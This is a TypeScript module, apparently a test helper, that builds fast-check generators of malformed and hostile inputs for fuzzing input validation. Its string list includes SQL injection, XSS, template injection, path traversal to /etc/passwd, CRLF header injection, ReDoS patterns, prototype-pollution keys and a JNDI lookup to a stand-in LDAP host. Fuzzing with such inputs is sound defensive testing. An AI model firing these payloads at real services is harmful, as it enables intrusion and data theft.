import fc from 'fast-check'

/**
 * Texts that broke other services, by weakness. The classes are those of the OWASP Web Security Testing Guide v4.2,
 * chapter 4.7 (input validation), and of CWE-20, -74, -117, -1321 and -1333.
 */
const texts: readonly string[] = [
  // Emptiness and space
  '',
  ' ',
  '\t',
  '\r\n',
  '\u00a0',
  '\u200b',
  // Invalid and huge numbers
  'NaN',
  'Infinity',
  '-Infinity',
  '1e400',
  '-0',
  '0x10',
  '1_000',
  '１２',
  '−1',
  '9'.repeat(400),
  // Dates at and beyond the range of clocks
  '0000-00-00',
  '-000001-01-01T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  '2026-02-30T00:00:00Z',
  '2026-01-01T24:00:01Z',
  '2026-01-01T00:00:00+99:99',
  // Names of inherited properties
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  // Syntax of other languages
  "' OR 1=1 --",
  '"; DROP TABLE ledger_entry; --',
  '$' + '{jndi:ldap://192.0.2.1/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..%2f..%2f',
  '%00',
  'a\r\nSet-Cookie: x=1',
  '%0d%0aSet-Cookie:x=1',
  // Unicode: invisible, reversing, and unpaired
  '\u202egnp.exe',
  '\ud800',
  '\ufeff',
  'e\u0301'.repeat(200),
  '🜂'.repeat(100),
  // Long texts, and patterns that make a careless regular expression backtrack
  'a'.repeat(65),
  'a'.repeat(3_000),
  `${'a,'.repeat(400)}!`,
  `radec:${'1'.repeat(70)},`,
  `${'-'.repeat(70)}1`,
]

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...texts) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 300 }) },
  { weight: 1, arbitrary: fc.string({ minLength: 65, maxLength: 600 }) },
)

const hostileNumber = fc.oneof(
  fc.double(),
  fc.constantFrom(0, -0, 1e-320, Number.MAX_VALUE, -Number.MAX_VALUE, 2 ** 31, 2 ** 53, -(2 ** 53) - 1),
)

/** Any JSON value, with known harmful ones more often. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: hostileText },
  { weight: 3, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}) },
  { weight: 1, arbitrary: fc.array(hostileText, { maxLength: 4 }) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileText, fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }) },
)

/** Unknown parameter names, some with a meaning in JavaScript. */
export const hostileName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'toString', 'lattitude', 'Latitude', 'latitude ', 'api_key'),
  hostileText,
)
